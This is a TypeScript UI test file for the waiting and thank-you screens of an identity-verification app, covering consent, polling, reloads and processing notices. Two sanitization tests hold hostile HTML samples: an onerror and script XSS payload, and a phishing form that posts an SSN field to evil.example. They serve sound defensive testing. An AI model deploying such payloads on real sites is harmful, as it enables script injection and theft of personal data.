import { act, screen, waitFor } from '@testing-library/react';
import { ok } from '../../../src/domain/shared/result';
import {
  issuerOf,
  networkFailure,
  question,
  recordOf,
  snapshotOf,
} from '../../application/fakes/fake-interview-service';
import { uiHarness } from '../support/ui-harness';

/** A signed-in applicant with every question answered and nothing to pay: the waiting stage. */
function finishing(search?: string) {
  const app = uiHarness();
  app.service.snapshot = snapshotOf({ questions: [question('a', { complete: true })], consentGiven: false });
  app.signIn(undefined, search);
  // As the server does: the interview reads consent as given once it is.
  app.service.on('giveConsent', () => {
    app.service.snapshot = { ...app.service.snapshot, consentGiven: true };
    return ok(undefined);
  });
  return app;
}

const advance = (app: ReturnType<typeof uiHarness>, ms: number) => act(() => app.time.advance(ms));

describe('the waiting-for-results screen', () => {
  it('gives consent, asks for a transition every second until one answers, then thanks the applicant', async () => {
    const app = finishing();
    app.service.on('requestTransition', () => networkFailure());
    app.renderApp('/finishing');

    expect(await screen.findByRole('heading', { level: 1, name: "We're processing your information" })).toHaveFocus();
    expect(screen.getByRole('status')).toBeInTheDocument();
    await waitFor(() => expect(app.service.callsTo('requestTransition')).toHaveLength(1));
    expect(app.service.callsTo('giveConsent')).toEqual([['R1']]);
    const consentAt = app.service.calls.findIndex((call) => call.method === 'giveConsent');
    const transitionAt = app.service.calls.findIndex((call) => call.method === 'requestTransition');
    expect(consentAt).toBeLessThan(transitionAt);

    await advance(app, 1000);
    expect(app.service.callsTo('requestTransition')).toHaveLength(2);

    app.service.on('requestTransition', () => ok({ status: 'transitionNotNeeded' as const }));
    await advance(app, 1000);
    expect(
      await screen.findByRole('heading', { level: 1, name: 'Thank you for submitting your information to Acme Bank' }),
    ).toBeVisible();
    expect(app.service.callsTo('giveConsent')).toHaveLength(1);
  });

  it('does not give consent again when it is already given', async () => {
    const app = finishing();
    app.service.snapshot = { ...app.service.snapshot, consentGiven: true };
    app.service.on('requestTransition', () => networkFailure());
    app.renderApp('/finishing');
    await screen.findByRole('heading', { level: 1, name: "We're processing your information" });
    await waitFor(() => expect(app.service.callsTo('requestTransition')).toHaveLength(1));
    expect(app.service.callsTo('giveConsent')).toEqual([]);
  });
});

describe('the thank-you screen', () => {
  it("shows the spec's texts with the issuer's name, then reloads the interview once after 30 seconds", async () => {
    const app = finishing();
    app.renderApp('/finishing');
    await screen.findByRole('heading', { level: 1, name: 'Thank you for submitting your information to Acme Bank' });
    expect(document.title).toMatch(/^Attest/);
    expect(screen.getByText('You will be notified once your submission has finished processing.')).toBeVisible();
    expect(screen.queryByRole('link', { name: 'Continue' })).not.toBeInTheDocument();

    await advance(app, 29_000);
    expect(app.service.callsTo('reloadInterview')).toEqual([]);
    await advance(app, 1_000);
    expect(app.service.callsTo('reloadInterview')).toEqual([['R1']]);
    await advance(app, 30_000);
    expect(app.service.callsTo('reloadInterview')).toHaveLength(1);
    expect(app.service.callsTo('giveConsent')).toHaveLength(1);
    expect(screen.getByRole('heading', { level: 1 })).toHaveTextContent('Thank you');
  });

  it("thanks 'us' when the issuer has no name", async () => {
    const app = finishing();
    app.service.issuer = issuerOf({ displayName: '' });
    app.renderApp('/finishing');
    expect(
      await screen.findByRole('heading', { level: 1, name: 'Thank you for submitting your information to us' }),
    ).toBeVisible();
  });

  it("renders the issuer's confirmation texts sanitized, in place of the spec's", async () => {
    const app = finishing();
    app.service.issuer = issuerOf({
      idoConfirmationMessage: {
        headingText: 'All <em>done</em><img src="x" onerror="alert(1)">',
        messageText: '<p>We will e-mail you.</p><script>window.hacked = true</script>',
      },
    });
    app.renderApp('/finishing');
    const heading = await screen.findByRole('heading', { level: 1, name: 'All done' });
    expect(heading.querySelector('em')).toHaveTextContent('done');
    expect(document.querySelector('[onerror]')).toBeNull();
    expect(document.querySelector('main script')).toBeNull();
    expect(screen.getByText('We will e-mail you.')).toBeVisible();
    expect(screen.queryByText('You will be notified once your submission has finished processing.')).toBeNull();
  });

  it('removes a phishing form and a style from the confirmation texts, and opens their links in a new tab', async () => {
    const app = finishing();
    app.service.issuer = issuerOf({
      idoConfirmationMessage: {
        headingText: '<h1 style="color:white">All done</h1><style>footer{display:none}</style>',
        messageText:
          '<p>One more step.</p><form action="https://evil.example/collect" method="post">' +
          '<input name="ssn" placeholder="SSN"><button>Send</button></form>' +
          '<p class="snackbar">Track it <a href="https://acme.example/track">here</a>.</p>',
      },
    });
    app.renderApp('/finishing');
    const heading = await screen.findByRole('heading', { level: 1, name: 'All done' });
    expect(heading.querySelectorAll('h1, [style], style')).toHaveLength(0);
    const main = screen.getByRole('main');
    expect(main.querySelectorAll('form, input, button, style, [style], .snackbar')).toHaveLength(0);
    expect(screen.queryByRole('textbox')).toBeNull();
    expect(screen.getByText('One more step.')).toBeVisible();
    const link = screen.getByRole('link', { name: 'here (opens in a new tab)' });
    expect(link).toHaveAttribute('href', 'https://acme.example/track');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('links to the continue URL and does not reload when the session has one', async () => {
    const app = finishing('?rprId=R1&canary=c-1&continue_url=https%3A%2F%2Fshop.example%2Fback');
    app.renderApp('/finishing');
    const link = await screen.findByRole('link', { name: 'Continue' });
    expect(link).toHaveAttribute('href', 'https://shop.example/back');
    await advance(app, 31_000);
    expect(app.service.callsTo('reloadInterview')).toEqual([]);
  });
});

describe('the thank-you screen of a request in process', () => {
  const DAY = 86_400;
  const support = { email: 'help@acme.example', phone: null, url: 'https://acme.example/help', urlTitle: 'Help' };

  /** Everything answered and consent given, submitted `days` days ago and in process: the app's stage rule leads to /done. */
  function processingFor(days: number, issuer = issuerOf({ supportContactInfo: support })) {
    const app = uiHarness();
    const now = Math.floor(app.time.now() / 1000);
    app.service.snapshot = snapshotOf({ questions: [question('a', { complete: true })], consentGiven: true });
    app.service.record = recordOf('in_process', { createdAt: now - (days + 1) * DAY, submittedAt: now - days * DAY });
    app.service.issuer = issuer;
    app.signIn();
    app.renderApp('/overview');
    return app;
  }
  /** The one fact the thank-you screen lists, as term and value. */
  const fact = () => [screen.getByRole('term').textContent, screen.getByRole('definition').textContent];

  it('after 8 days: the thanks, the days processing, the 7-day notice without a ticket link and the rules', async () => {
    const app = processingFor(8);
    await screen.findByRole('heading', { level: 1, name: 'Thank you for submitting your information to Acme Bank' });
    expect(app.navigator.current).toBe('/done');
    expect(screen.getByText('You will be notified once your submission has finished processing.')).toBeVisible();
    expect(fact()).toEqual(['Days processing', '8']);
    expect(screen.getByRole('status')).toHaveTextContent(/^Verification is taking longer than usual/);
    expect(screen.queryByText(/much longer than usual/)).not.toBeInTheDocument();
    expect(screen.queryByRole('link', { name: 'Open a support ticket' })).not.toBeInTheDocument();
    expect(
      screen.getByText(
        /^A verification request expires 30 days after it is sent: this one expires on \d\d\/\d\d\/\d{4}\.$/,
      ),
    ).toBeVisible();
    expect(
      screen.getByText(/attempted at most two times; if it cannot be completed, the request is canceled automatically/),
    ).toBeVisible();
  });

  it("after 14 days: the 13-day notice with the support ticket link to the issuer's support", async () => {
    processingFor(14);
    expect(await screen.findByText(/^Verification is taking much longer than usual/)).toBeVisible();
    expect(fact()).toEqual(['Days processing', '14']);
    expect(screen.getByRole('link', { name: 'Open a support ticket' })).toHaveAttribute('href', support.url);
  });

  it("keeps the issuer's confirmation texts above the facts", async () => {
    processingFor(14, issuerOf({ idoConfirmationMessage: { headingText: 'Done!', messageText: 'We will call.' } }));
    expect(await screen.findByRole('heading', { level: 1, name: 'Done!' })).toBeVisible();
    expect(screen.getByText('We will call.')).toBeVisible();
    expect(fact()).toEqual(['Days processing', '14']);
    // No support contact: the notice shows without a ticket link.
    expect(screen.getByText(/^Verification is taking much longer than usual/)).toBeVisible();
    expect(screen.queryByRole('link', { name: 'Open a support ticket' })).not.toBeInTheDocument();
  });

  it('shows no processing facts while the request is new', async () => {
    const app = finishing();
    app.renderApp('/finishing');
    await screen.findByRole('heading', { level: 1, name: 'Thank you for submitting your information to Acme Bank' });
    expect(screen.queryByText('Days processing')).not.toBeInTheDocument();
    expect(screen.queryByText(/expires 30 days/)).not.toBeInTheDocument();
  });
});
